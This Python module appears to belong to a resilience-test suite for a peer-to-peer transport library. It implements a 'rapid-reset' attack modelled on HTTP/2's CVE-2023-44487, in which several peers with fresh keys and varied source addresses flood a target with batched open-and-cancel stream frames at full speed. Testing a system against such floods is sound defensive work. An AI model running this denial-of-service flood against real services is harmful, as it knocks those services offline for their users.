"""Peers that open streams and cancel them at once, as fast as they can (as HTTP/2's rapid reset, CVE-2023-44487)."""

from __future__ import annotations

import asyncio
import contextlib

import msgpack

from peerbus.transports.streams.identity import Identity
from peerbus.transports.wire import flags_of

from ..attack import Attack, Target, source_address
from ..raw import Wire
from ..reactors import Spring

__all__ = ["ATTACK"]

#: Streams that are opened and cancelled in one write, and by one key.
_BLOCK, _MOST = 100, 1_000_000
#: Windows that the attacker grants: as large as they can be said.
_WINDOW = 1 << 30


async def _run(target: Target) -> None:
    question = msgpack.packb({"number": 1})
    kind = 1 | flags_of(_WINDOW, _WINDOW, opened=False)

    async def once(number: int) -> None:
        async with asyncio.timeout(10.0):
            wire = await Wire.as_peer(target, Identity.generate(), source=source_address(number))
        reading = asyncio.ensure_future(wire.reader.read(-1))
        at, rid = wire.channel(Spring.channel.name), 0
        most = int(target.scaled(_MOST, 20_000))
        try:
            while rid < most and not reading.done():
                block = b""
                for _ in range(_BLOCK):
                    rid += 1
                    block += wire.frame("ASK", at, [[rid, 60_000, kind, 0, question]]) + wire.frame("CANCEL", rid)
                wire.writer.write(block)
                with contextlib.suppress(ConnectionError):
                    await wire.writer.drain()
                await asyncio.sleep(0)
        finally:
            target.facts["streams opened and cancelled"] += rid
            wire.close()
            reading.cancel()
            await asyncio.gather(reading, return_exceptions=True)

    await target.repeat(once, side_by_side=target.scaled(10, 2))


ATTACK = Attack(
    number=15,
    name="rapid-reset",
    about="ten peers with a fresh key each that open streams and cancel them at once, at full speed",
    run=_run,
    reactors=(Spring,),
    small=4,
)
